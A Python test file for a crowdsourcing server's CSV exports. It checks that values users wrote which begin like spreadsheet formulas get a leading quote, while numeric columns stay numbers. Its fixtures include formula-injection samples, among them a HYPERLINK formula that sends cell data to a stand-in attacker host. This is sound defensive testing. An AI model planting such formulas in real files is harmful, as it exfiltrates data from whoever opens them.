"""Every CSV the server writes opens in a spreadsheet without evaluating
what users put in it: text that begins like a formula gets a leading
quote; the numbers the server writes stay numbers."""

from __future__ import annotations

import csv
import io

from crowd.api.keys import CLOCK, DATABASE
from crowd.csvcells import FORMULA_STARTS
from crowd.payments.service import approve_due
from tests.support.crowd import Crowd

HOSTILE_LABELS = ["=1+1", "-dog", "@SUM(A1)", "plain"]
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-7", "\tcell", "\rcell", "@x", "ok"]


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(rows: list[list[str]], numeric: set[int]) -> None:
    """No cell begins like a formula, except the server's own numbers."""
    for row in rows[1:]:
        for i, cell in enumerate(row):
            if i in numeric and cell:
                float(cell)  # a number, written as one
            else:
                assert cell[:1] not in FORMULA_STARTS, (i, cell, row)


async def test_results_and_answers_csv_neutralize_what_users_wrote(crowd: Crowd) -> None:
    pid = (await crowd.new_project(labels=HOSTILE_LABELS, min_overlap=1, max_overlap=1, reward=3))["id"]
    tasks = [{"external_id": external_id, "data": {"text": external_id}} for external_id in HOSTILE_IDS]
    await crowd.ok("POST", f"/api/v1/projects/{pid}/batches", crowd.platform, {"tasks": tasks})
    worker = await crowd.new_worker("=evil()")
    answered = {}
    for i in range(len(HOSTILE_IDS)):
        lease = await crowd.next(worker, pid)
        assert lease is not None
        label = HOSTILE_LABELS[i % len(HOSTILE_LABELS)]
        assert (await crowd.answer(worker, lease["assignment_id"], label)).status == 200
        answered[lease["data"]["text"]] = label

    results = table((await crowd.call("GET", f"/api/v1/projects/{pid}/results?format=csv", crowd.platform)).text)
    header = results[0]
    assert header[:5] == ["external_id", "status", "label", "confidence", "answers"]
    assert header[5:] == [f"posterior_{label}" for label in HOSTILE_LABELS]
    assert_inert(results, numeric=set(range(3, len(header))))
    by_id = {row[0]: row for row in results[1:]}
    for external_id, label in answered.items():
        row = by_id[neutralized(external_id)]
        assert (row[1], row[2]) == ("completed", neutralized(label))
        assert 0 < float(row[3]) <= 1
        assert row[4] == "1"

    answers = table((await crowd.call("GET", f"/api/v1/projects/{pid}/answers?format=csv", crowd.platform)).text)
    assert answers[0] == ["task", "worker", "label", "created_at"]
    assert_inert(answers, numeric=set())
    assert {(row[0], row[2]) for row in answers[1:]} == {(neutralized(t), neutralized(a)) for t, a in answered.items()}


async def test_the_payout_csv_keeps_its_amounts_numeric(crowd: Crowd) -> None:
    pid = (await crowd.new_project(min_overlap=1, max_overlap=1, reward=250, review_seconds=0))["id"]
    await crowd.submit(pid, 2)
    worker = await crowd.new_worker("@worker")
    for _ in range(2):
        lease = await crowd.next(worker, pid)
        assert lease is not None
        await crowd.answer(worker, lease["assignment_id"], "cat")
    app = crowd.client.server.app
    assert await approve_due(app[DATABASE], app[CLOCK]) == 2  # review_seconds 0: approved on the next run
    run = await crowd.ok("POST", "/api/v1/payouts", crowd.operator, {"currency": "USD"})
    rows = table((await crowd.call("GET", f"/api/v1/payouts/{run['id']}", crowd.operator)).text)
    assert rows[0] == ["worker", "amount", "currency", "reference"]
    assert [int(row[1]) for row in rows[1:]] == [500]
    assert_inert(rows, numeric={1})


def neutralized(text: str) -> str:
    return "'" + text if text[:1] in FORMULA_STARTS else text
